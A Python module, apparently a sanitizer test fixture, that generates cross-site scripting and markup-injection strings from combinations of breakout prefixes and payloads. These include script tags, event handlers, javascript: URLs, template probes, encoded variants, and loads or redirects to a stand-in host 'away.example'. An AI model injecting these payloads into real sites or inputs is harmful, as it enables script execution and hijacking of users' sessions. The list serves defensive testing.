"""Strings that would run, load or lead away, were they ever markup: made from a small grammar."""

from __future__ import annotations

from itertools import product

RUN = "top.__ran=1"
_AWAY = "//away.example/x"
_OPEN = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "</title>",
    "</script>",
    "]]>",
    "&quot;>",
    "\\",
    "<!--",
    "</style>",
    "</textarea>",
    "\t",
)
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={_AWAY}></script>",
    f"<ScRiPt >{RUN}//",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<form action="{_AWAY}"><button>x</button></form>',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}">',
    f'<base href="{_AWAY}/">',
    f'<link rel="stylesheet" href="{_AWAY}.css">',
    f"<style>@import '{_AWAY}.css';</style>",
    f'<p style="background:url({_AWAY}.png)">x</p>',
    f'<object data="{_AWAY}.swf"></object>',
    f'<embed src="{_AWAY}.swf">',
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<template><script>{RUN}</script></template>",
)
_OTHER = (
    f"[x](javascript:{RUN})",
    f"![x]({_AWAY}.png)",
    f'[x]: {_AWAY} "x"',
    f"<javascript:{RUN}>",
    f'{{{{ "x".__class__.__mro__ }}}}{{% raw %}}<script>{RUN}</script>',
    f"{{: onclick={RUN} }}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3C;svg onload={RUN}&#x3e;",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"=HYPERLINK({_AWAY})",
    f"--8<-- '{_AWAY}'",
    f"</text></svg><img src=x onerror={RUN}>",
)
ATTACKS = (*(a + b for a, b in product(_OPEN, _ELEMENTS)), *_OTHER, *(f'"{o}' for o in _OTHER))
"""All of them, each a line."""
